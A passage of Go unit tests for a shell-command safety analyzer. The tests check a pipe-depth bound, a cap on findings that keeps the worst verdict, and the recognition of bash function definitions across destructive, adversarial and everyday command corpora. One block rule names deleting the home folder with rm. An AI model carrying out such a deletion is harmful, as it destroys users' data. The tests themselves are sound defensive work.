		}
	}
}

func TestFilterDepthBoundAsks(t *testing.T) {
	// A reading that walks further up a pipe's filters than
	// maxFilterDepth (a substitution's pipeline is read from its end)
	// stops there and makes the command ask, rather than read the pipe as
	// carrying nothing.
	a := testAnalyzer(t)
	for _, tc := range []struct {
		filters int
		over    bool
	}{
		{maxFilterDepth - 2, false},
		{maxFilterDepth + 2, true},
	} {
		src := "x=$(echo hi" + strings.Repeat(" | cat", tc.filters) + "); echo $x"
		res := a.Command(src, testEnv())
		if ok, _ := caught(res, ruleTooComplex); ok != tc.over {
			t.Errorf("%d filters: too complex %v, want %v (findings %+v)", tc.filters, ok, tc.over, res.Findings)
		}
	}
}

func TestFindingBoundKeepsTheWorst(t *testing.T) {
	// The findings are bounded, but the bound never lowers the verdict:
	// a block past maxFindings asks takes an ask's place, in one reading
	// and when two readings are merged.
	asks := make([]Finding, maxFindings)
	for i := range asks {
		asks[i] = Finding{Rule: ruleDynamicName, Kind: Dynamic, Severity: Ask, Detail: strconv.Itoa(i)}
	}
	block := Finding{Rule: ruleRmHome, Kind: Command, Severity: Block, Detail: "rm deletes the home folder"}

	r := &run{}
	for _, f := range asks {
		r.add(f)
	}
	r.add(block)
	if len(r.findings) != maxFindings || !slices.Contains(r.findings, block) {
		t.Errorf("add: %d findings, block kept %v", len(r.findings), slices.Contains(r.findings, block))
	}

	merged := mergeReadings(Result{Findings: slices.Clone(asks)}, Result{Findings: []Finding{block}})
	if len(merged.Findings) != maxFindings || merged.Findings[0] != block {
		t.Errorf("mergeReadings: %d findings, first %+v", len(merged.Findings), merged.Findings[0])
	}
}

// TestFuncDefsHoldEveryDefinition defends the pre-pass's gate on the
// arguments of calls: every function a script defines, however it is
// written, is one funcDefs allows, in each corpus line and in the
// spellings the parser takes.
func TestFuncDefsHoldEveryDefinition(t *testing.T) {
	srcs := []string{"f\t() { :; }", "f ( ) { :; }", "function  f { :; }", "function\tf() { :; }", "function \\\nf { :; }",
		"f\\\n() { :; }", "if true; then g() { :; }; fi", "x=$(h() { :; }; h)", "k() ( : )", "{ m() { :; }; }", "n()\n{ :; }", "o ( )( :; )", "a.b-c() { :; }"}
	for _, file := range []string{"testdata/destructive.txt", "testdata/adversary.txt", "testdata/everyday.txt", "testdata/everyday2.txt"} {
		for _, e := range loadCorpus(t, file, !strings.Contains(file, "everyday")) {
			srcs = append(srcs, e.cmd)
		}
	}
	p := syntax.NewParser(syntax.Variant(syntax.LangBash))
	defs := 0
	for _, src := range srcs {
		f, err := p.Parse(strings.NewReader(src), "")
		if err != nil {
			continue
		}
		syntax.Walk(f, func(n syntax.Node) bool {
			if fd, ok := n.(*syntax.FuncDecl); ok && fd.Name != nil {
				defs++
				if d := (funcDefs{src: src}); !d.may(fd.Name.Value) {
					t.Errorf("%q defines %q, which funcDefs denies", src, fd.Name.Value)
				}
			}
			return true
		})
	}
	if defs < 50 {
		t.Errorf("only %d definitions were tried", defs)
	}
	for _, tc := range []struct {
		src, name string
		want      bool
	}{
		{`echo "$TOKEN"; echo x`, "echo", false},
		{`echoes() { :; }; echo "$T"`, "echo", false},
		{`echo() { :; }; echo "$T"`, "echo", true},
		{"f\\\n() { :; }", "g", true},
		{"function g { :; }", "h", true},
	} {
		d := funcDefs{src: tc.src}
		if got := d.may(tc.name); got != tc.want {
			t.Errorf("funcDefs.may(%q, %q) = %v, want %v", tc.src, tc.name, got, tc.want)
		}
	}
}
